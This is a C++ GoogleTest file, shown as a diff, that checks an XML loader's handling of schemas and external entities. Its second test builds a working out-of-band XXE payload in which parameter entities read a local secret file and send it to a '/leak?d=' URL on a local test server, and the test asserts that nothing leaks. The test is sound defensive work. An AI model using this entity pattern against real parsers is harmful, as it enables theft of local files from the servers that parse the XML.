@@ -1,0 +1,154 @@
+// SPDX-License-Identifier: MIT
+// What a document may make the loader read besides itself: schemas only to
+// validate, and then only where the document may read; nothing ever sent to
+// a server that the document built from another file's content. The
+// servers are local ones the tests start; they count what reaches them.
+#include <gtest/gtest.h>
+
+#include <string>
+
+#include "load/external_entities.h"
+#include "model/element_record.h"
+#include "platform/notifier.h"
+#include "settings/options.h"
+#include "support/load_xml.h"
+#include "support/local_server.h"
+
+namespace quillon::test {
+namespace {
+
+std::string A(const std::u16string& s) { return std::string(s.begin(), s.end()); }
+
+constexpr const char* kSchema =
+    "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema' targetNamespace='urn:p' elementFormDefault='qualified'>"
+    "<xs:element name='project'><xs:complexType><xs:sequence>"
+    "<xs:element name='version' type='xs:decimal'/>"
+    "</xs:sequence></xs:complexType></xs:element></xs:schema>";
+
+// A project file that names its schema, as Maven's do.
+std::string project(const std::string& schema, const std::string& version = "1.0") {
+    return "<project xmlns='urn:p' xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
+           "xsi:schemaLocation='urn:p " + schema + "'><version>" + version + "</version></project>";
+}
+
+struct ExternalReads : ::testing::Test {
+    void SetUp() override { ResetOptions(options(), false); }
+    void TearDown() override { ResetOptions(options(), false); }
+    DocumentPane pane;
+    RecordingNotifier quiet;
+    ScopedNotifier scoped{quiet};
+};
+
+TEST_F(ExternalReads, SchemasAreReadOnlyToValidateAndAMissingOneIsANotice) {
+    LocalServer server(HttpReply(kSchema));
+    const std::string remote = server.address("/p.xsd");
+    const std::string local = WriteTempFile(kSchema, ".xsd");
+    const std::string broken = WriteTempFile("not a schema", ".xsd");
+    constexpr std::uint32_t kAuto = 0, kNever = 1, kAlways = 2;
+    const struct {
+        std::uint32_t validation;
+        std::string schema, version;
+        bool notice, errors;
+    } cases[] = {
+        // Without validation no schema is read, wherever it is and whatever it holds.
+        {kNever, remote, "1.0", false, false},
+        {kNever, broken, "1.0", false, false},
+        // A local document does not go to the network for its schema, and
+        // one that is not there is not a failure.
+        {kAuto, remote, "1.0", true, false},
+        {kAlways, "/nonexistent/p.xsd", "1.0", true, false},
+        // A local schema validates.
+        {kAuto, local, "x", false, true},
+        {kAlways, local, "1.0", false, false},
+    };
+    for (const auto& c : cases) {
+        options().SchemaValidation = c.validation;
+        const LoadResult r = LoadXml(pane, project(c.schema, c.version));
+        const std::string what = std::to_string(c.validation) + " " + c.schema;
+        ASSERT_TRUE(r.ok) << what << ": " << A(r.message);
+        EXPECT_EQ(r.elementCount, 2u) << what;
+        EXPECT_EQ(r.notice.find(kSchemaNotRead) != std::u16string::npos, c.notice) << what << ": " << A(r.notice);
+        EXPECT_EQ(r.errorSeen, c.errors) << what;
+    }
+    EXPECT_TRUE(server.requests().empty());
+
+    // A document from the network reads its schema there; one that cannot
+    // be had is a notice again.
+    options().SchemaValidation = kAuto;
+    std::string site;
+    LocalServer server2([&](const std::string& path) {
+        if (path == "/p.xml") return HttpReply(project(site + "/p.xsd", "x"));
+        if (path == "/q.xml") return HttpReply(project(site + "/gone.xsd", "x"));
+        return path == "/p.xsd" ? HttpReply(kSchema) : HttpReply("", "404 Not Found");
+    });
+    site = server2.address("");
+    for (const bool found : {true, false}) {
+        const LoadResult r = LoadFile(pane, server2.address(found ? "/p.xml" : "/q.xml"));
+        ASSERT_TRUE(r.ok) << A(r.message);
+        EXPECT_EQ(r.errorSeen, found);  // "x" is no decimal
+        EXPECT_EQ(r.notice.empty(), found) << A(r.notice);
+    }
+}
+
+std::string textOf(const DocumentPane& pane) {
+    const ElementRecord* r = Find(pane, "");
+    return r ? A(std::u16string(r->textUtf16())) : "<none>";
+}
+
+// The document type's parameter entities follow the rules of entities,
+// also when the DTD is read to validate: a module is read only with
+// ResolveEntities on. And whatever reads, no address made up of another
+// file's text is asked for.
+TEST_F(ExternalReads, ParameterEntitiesAreEntitiesAndNoAddressIsMadeOfReadText) {
+    LocalServer server(HttpReply("<!ENTITY z 'z'>"));
+    const std::string secret = WriteTempFile("TOPSECRET-38", ".txt");
+    // The out-of-band pattern: the secret goes into an entity's value, and
+    // that value declares an entity whose address carries it.
+    const std::string outOfBand =
+        "<!ENTITY % d SYSTEM 'file://" + secret + "'>"
+        "<!ENTITY % c \"<!ENTITY &#37; e SYSTEM '" + server.address("/leak?d=") + "%d;'>\">%c;%e;";
+    // Two modules, each declaring an entity the content uses.
+    const std::string module1 = WriteTempFile("<!ENTITY a 'A'>", ".ent");
+    const std::string module2 = WriteTempFile("<!ENTITY b 'B'>", ".ent");
+    const std::string modular = "<!ENTITY % m1 SYSTEM '" + module1 + "'>%m1;<!ENTITY % m2 SYSTEM '" + module2 + "'>%m2;";
+    const std::string leakDtd = WriteTempFile(outOfBand, ".dtd");
+    const std::string modularDtd = WriteTempFile(modular, ".dtd");
+    const struct {
+        std::string dtd;
+        std::uint8_t resolve;
+        std::uint32_t validation;
+        std::string text;
+    } cases[] = {
+        {leakDtd, 0, 0, "x"},
+        {leakDtd, 1, 0, "x"},
+        {leakDtd, 1, 2, "x"},
+        {modularDtd, 1, 0, "x AB"},
+        {modularDtd, 0, 0, "x"},
+    };
+    for (const auto& c : cases) {
+        options().ResolveEntities = c.resolve;
+        options().SchemaValidation = c.validation;
+        const LoadResult r = LoadXml(pane, "<!DOCTYPE r SYSTEM '" + c.dtd + "'><r>x &a;&b;</r>");
+        const std::string what = c.dtd + " resolve " + std::to_string(c.resolve);
+        ASSERT_TRUE(r.ok) << what << ": " << A(r.message);
+        EXPECT_EQ(textOf(pane).substr(0, c.text.size()), c.text) << what;
+        EXPECT_EQ(textOf(pane).find("TOPSECRET"), std::string::npos);
+    }
+    // A document from the network may read local files with ResolveEntities
+    // on, but not send them anywhere.
+    std::string site;
+    LocalServer origin([&](const std::string& path) {
+        return HttpReply(path == "/doc.xml" ? "<!DOCTYPE r SYSTEM '" + site + "/t.dtd'><r>x</r>" : outOfBand);
+    });
+    site = origin.address("");
+    options().ResolveEntities = 1;
+    options().SchemaValidation = 0;
+    const LoadResult r = LoadFile(pane, origin.address("/doc.xml"));
+    EXPECT_TRUE(r.ok) << A(r.message);
+    EXPECT_EQ(r.notice.find(u"TOPSECRET"), std::u16string::npos);
+    EXPECT_EQ(origin.requests().size(), 2u);
+    EXPECT_TRUE(server.requests().empty());
+}
+
+}  // namespace
+}  // namespace quillon::test
